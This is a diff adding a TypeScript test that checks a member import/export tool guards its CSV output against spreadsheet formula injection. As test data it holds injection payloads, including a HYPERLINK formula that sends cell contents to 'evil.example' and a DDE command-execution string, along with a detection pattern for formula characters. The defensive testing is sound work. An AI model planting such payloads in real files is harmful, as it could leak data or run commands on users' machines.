@@ -6,6 +6,7 @@ import { join } from 'node:path';
 import { PassThrough } from 'node:stream';
 import { hash as argon2Hash } from '@node-rs/argon2';
 import bcrypt from 'bcryptjs';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { expect, it } from 'vitest';
 import { servicesOver } from '../../src/compose.js';
 import { exportCommand, importCommand, type ImportCommandOptions } from '../../src/import-export/commands.js';
@@ -219,6 +220,57 @@ describeEachEngineApp('import and export', (h) => {
       expect(await target.login('r2', 'r2-password')).toBe('FAIL');
       expect(await target.list({ record: '{login}{login_count}', login_full: 'r3', status: 'D' })).toMatchObject({ members: [{ login: 'r3', login_count: 'a field, not the count' }] });
     }
+  });
+
+  it('writes CSV cells that a spreadsheet would run as formulas with a quote before them, and reads its own export back exactly', async () => {
+    const source = await setup();
+    // Seeded from JSON Lines, so that what is stored does not depend on reading CSV.
+    const members = [
+      { login: '@SUM(1+1)*cmd', email: '+cmd@x.io', password: 'first-password', note: '=HYPERLINK("https://evil.example/?"&A1,"click")', '-neg': '-1+2' },
+      { login: "'=quoted", email: '-dash@x.io', password: 'second-password', note: "''+two", '-neg': "'plain" },
+      { login: 'tab', email: 'tab@x.io', password: 'third-password', note: '\tTab', '-neg': '\rCR' },
+      { login: 'fullwidth', email: 'fw@x.io', password: 'fourth-password', note: '\uFF1D1+1', '-neg': "'" },
+      { login: "plain'quote", email: 'plain@x.io', password: 'fifth-password', note: "it's fine" },
+    ];
+    expect(await source.run(file('formulas.jsonl', members.map((m) => `${JSON.stringify(m)}\n`).join('')))).toMatchObject({ imported: 5, rejected: 0 });
+    const exportOf = async (account: typeof source, format: 'csv' | 'jsonl') => {
+      const path = join(dir, `${files++}-formulas.${format}`);
+      await exportCommand(h().services, { account: account.user, output: path });
+      return { path, text: readFileSync(path, 'utf8') };
+    };
+    const withoutIds = (jsonl: string) => jsonl.trim().split('\n').map((line) => JSON.parse(line) as Record<string, string>).map(({ id: _, ...member }) => member);
+    const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+
+    // CSV: no cell, the header's included, begins as a formula; a quote-led one gets one quote more.
+    const exported = await exportOf(source, 'csv');
+    const [header, ...rows] = parseCsv(exported.text, { bom: true }) as string[][];
+    expect([...header!, ...rows.flat()].filter((cell) => FORMULA.test(cell))).toEqual([]);
+    const column = (name: string) => rows.map((row) => row[header!.indexOf(name)]);
+    expect(header).toContain("'-neg");
+    expect(column('login')).toEqual(["'@SUM(1+1)*cmd", "''=quoted", 'tab', 'fullwidth', "plain'quote"]);
+    expect(column('email')).toEqual(["'+cmd@x.io", "'-dash@x.io", 'tab@x.io', 'fw@x.io', 'plain@x.io']);
+    expect(column('note')).toEqual([`'${members[0]!.note}`, "'''+two", "'\tTab", "'\uFF1D1+1", "it's fine"]);
+    expect(column("'-neg")).toEqual(["'-1+2", "'plain", "'\rCR", "'", '']);
+    // JSON Lines is no spreadsheet: its values are as they are.
+    const original = withoutIds((await exportOf(source, 'jsonl')).text);
+    expect(original.map((m) => [m.login, m.email, m.note, m['-neg']])).toEqual(members.map((m) => [m.login, m.email, m.note, m['-neg']]));
+
+    // Our own CSV export, imported, gives back every value exactly.
+    const target = await setup();
+    expect(await target.run(exported.path)).toMatchObject({ imported: 5, rejected: 0 });
+    expect(withoutIds((await exportOf(target, 'jsonl')).text)).toEqual(original);
+    expect(await target.login("'=quoted", 'second-password')).toBe('OK');
+
+    // The rejects file is for spreadsheets too: its cells (a file's header, rows and reasons) are quoted the same way.
+    const bad = file('formula-rejects.csv', `login,email,password,-neg\n"=cmd|'/C&calc'!A0",,@secret-password,+1\nfine,fine@x.io,fine-password,\n=1+1,"x\n`);
+    const report = await source.run(bad);
+    expect(report).toMatchObject({ read: 3, imported: 1, rejected: 2 });
+    const [rejectsHeader, ...rejected] = parseCsv(readFileSync(report.rejectsFile!, 'utf8'), { bom: true, relax_column_count: true }) as string[][];
+    expect([...rejectsHeader!, ...rejected.flat()].filter((cell) => FORMULA.test(cell))).toEqual([]);
+    expect(rejectsHeader).toEqual(['login', 'email', 'password', "'-neg", '_line', '_reason', '_text']);
+    const byLine = new Map(rejected.map((row) => [row[4], row]));
+    expect(byLine.get('2')).toEqual(["'=cmd|'/C&calc'!A0", '', "'@secret-password", "'+1", '2', 'missing email (needed for a new member)', '']);
+    expect(byLine.get('4')!.at(-1)).toBe(`'=1+1,"x`);
   });
 });
 
